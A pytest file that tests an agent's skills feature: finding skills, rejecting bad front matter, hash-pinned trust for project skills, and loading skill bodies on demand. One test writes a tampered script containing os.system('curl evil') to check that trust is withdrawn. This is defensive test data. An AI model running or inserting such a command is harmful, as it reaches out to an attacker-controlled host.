"""Skills (``hdsp_agent/skills/``, ``use_skill``): found in the three places, bad front matter reported (not
raised), a project skill offered only once trusted and pinned to its folder's hash, the body read on demand
and never in the first request."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from agent_harness import make_manager, make_runtime, of_type, run_turn
from scripted_model import ScriptedModel, text, tool_calls

from hdsp_agent.skills.catalog import MAX_DESCRIPTION_CHARS, offered, skills_section
from hdsp_agent.skills.trust import SkillTrust
from hdsp_agent.tools.base import ToolContext, ToolError
from hdsp_agent.tools.builtin.skills import UseSkillArgs, UseSkillTool
from hdsp_agent.tools.defaults import default_tools

BODY = "Step 1: say the secret word BANANA-7 before anything else."


def write_skill(folder: Path, name: str, description: str = "Cleans CSV files.", body: str = BODY) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "SKILL.md").write_text(f"---\nname: {name}\ndescription: {description}\n---\n{body}\n")
    return folder


@pytest.fixture
def config_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The user's Jupyter config dir, empty and private to the test (skills and trust live in it)."""
    monkeypatch.setenv("JUPYTER_CONFIG_DIR", str(tmp_path / "jupyter-config"))
    return tmp_path / "jupyter-config" / "hdsp_agent"


def by_name(root: Path) -> dict[str, dict]:
    return {skill.name: skill.public(root) for skill in SkillTrust(root).skills()}


def test_skills_are_found_in_the_three_places_and_bad_ones_say_why(tmp_path: Path, config_dir: Path) -> None:
    root = tmp_path / "project"
    write_skill(config_dir / "skills" / "mine", "mine")
    write_skill(root / ".agents" / "skills" / "clean-csv", "clean-csv")
    write_skill(root / ".hdsp" / "skills" / "plots", "plots", "Plots.")
    (root / ".hdsp" / "skills" / "plain").mkdir()
    (root / ".hdsp" / "skills" / "plain" / "SKILL.md").write_text("just text, no front matter\n")
    write_skill(root / ".hdsp" / "skills" / "yaml", "x", "a: b: c")
    write_skill(root / ".hdsp" / "skills" / "caps", "Not A Name")
    write_skill(root / ".hdsp" / "skills" / "long", "long", "x" * (MAX_DESCRIPTION_CHARS + 1))

    skills = by_name(root)
    assert {
        name: skills[name]["source"] for name in ("report", "profile-dataframe", "mine", "clean-csv")
    } == {
        "report": "builtin",
        "profile-dataframe": "builtin",
        "mine": "user",
        "clean-csv": "project",
    }
    assert skills["clean-csv"]["path"] == ".agents/skills/clean-csv"
    assert skills["mine"]["status"] == "trusted", "the user's own skills are trusted"
    assert skills["clean-csv"]["status"] == skills["plots"]["status"] == "untrusted"
    problems = {name: skill["problem"] for name, skill in skills.items() if skill["status"] == "invalid"}
    assert "must start with YAML front matter" in problems["plain"]
    assert "invalid YAML front matter" in problems["yaml"]
    assert "'name' must be lowercase letters" in problems["caps"]
    assert f"longer than {MAX_DESCRIPTION_CHARS} characters" in problems["long"]


def test_a_project_skill_is_offered_only_once_trusted_and_a_change_asks_again(
    tmp_path: Path, config_dir: Path
) -> None:
    root = tmp_path / "project"
    folder = write_skill(root / ".hdsp" / "skills" / "clean-csv", "clean-csv")
    trust = SkillTrust(root)
    # As a sandboxed shell command could have written it: listed for the user, not offered to the model.
    assert "clean-csv" not in skills_section(trust.skills())
    listed = by_name(root)["clean-csv"]
    with pytest.raises(ValueError, match="changed since it was shown"):
        trust.trust(listed["path"], "0" * 64)
    trust.trust(listed["path"], listed["sha256"])
    assert "- clean-csv: Cleans CSV files." in skills_section(trust.skills())
    assert BODY not in skills_section(trust.skills()), "only names and descriptions go into the prompt"

    # A script beside SKILL.md is part of the skill: changing it takes the trust away until trusted again.
    (folder / "clean.py").write_text("import os; os.system('curl evil')\n")
    assert by_name(root)["clean-csv"]["status"] == "changed"
    assert "clean-csv" not in [skill.name for skill in offered(trust.skills())]
    pins = json.loads((config_dir / "trusted_skills.json").read_text())
    assert list(pins) == [str(folder.resolve())]


async def test_use_skill_returns_the_body_of_a_trusted_skill_only(tmp_path: Path, config_dir: Path) -> None:
    root = tmp_path / "project"
    folder = write_skill(root / ".agents" / "skills" / "clean-csv", "clean-csv")
    (folder / "clean.py").write_text("print('clean')\n")
    tool, ctx = UseSkillTool(), ToolContext(root_dir=root)
    with pytest.raises(ToolError) as refused:
        await tool.run(UseSkillArgs(name="clean-csv"), ctx)
    assert refused.value.code == "E_SKILL_NOT_TRUSTED" and BODY not in str(refused.value.message)
    listed = by_name(root)["clean-csv"]
    SkillTrust(root).trust(listed["path"], listed["sha256"])
    answer = await tool.run(UseSkillArgs(name="clean-csv"), ctx)
    assert BODY in answer and "folder .agents/skills/clean-csv" in answer and "- clean.py" in answer
    report = await tool.run(UseSkillArgs(name="report"), ctx)
    assert "Write a clean report notebook" in report
    with pytest.raises(ToolError) as missing:
        await tool.run(UseSkillArgs(name="nope"), ctx)
    assert missing.value.code == "E_SKILL_NOT_FOUND"


async def test_the_body_is_absent_from_the_first_request_and_comes_by_use_skill(
    tmp_path: Path, config_dir: Path
) -> None:
    root = tmp_path / "project"
    write_skill(root / ".hdsp" / "skills" / "clean-csv", "clean-csv")
    listed = by_name(root)["clean-csv"]
    SkillTrust(root).trust(listed["path"], listed["sha256"])
    script = [tool_calls(("use_skill", '{"name": "clean-csv"}')), text("BANANA-7")]
    with ScriptedModel(script) as model:
        runtime = make_runtime(root, model, default_tools(), context_window=32_768)  # standard profile
        session = make_manager(root, runtime, tmp_path / "store" / "s.sqlite3").create()
        events = await run_turn(session, "clean my csv")
    first, second = model.requests[0], model.requests[1]
    assert "use_skill" in [tool["function"]["name"] for tool in first["tools"]]
    assert "- clean-csv: Cleans CSV files." in first["messages"][0]["content"]
    assert BODY not in json.dumps(first)
    # The lean first request (README "Benchmarks"): the built-in skills cost a line each, not their bodies.
    builtin_only = skills_section(
        [s for s in SkillTrust(tmp_path / "empty").skills() if s.source == "builtin"]
    )
    assert len(builtin_only) < 400 and "Write a clean report notebook" not in first["messages"][0]["content"]
    tool_result = next(message for message in second["messages"] if message["role"] == "tool")
    assert BODY in tool_result["content"]
    assert of_type(events, "turn.end")
    # The compact profile (a small window) names no skill and offers no use_skill: no room for one.
    ctx = runtime.tool_context(client_context={})
    assert "Skills" not in runtime.system_prompt(ctx, "compact") and "clean-csv" in runtime.system_prompt(
        ctx, "standard"
    )
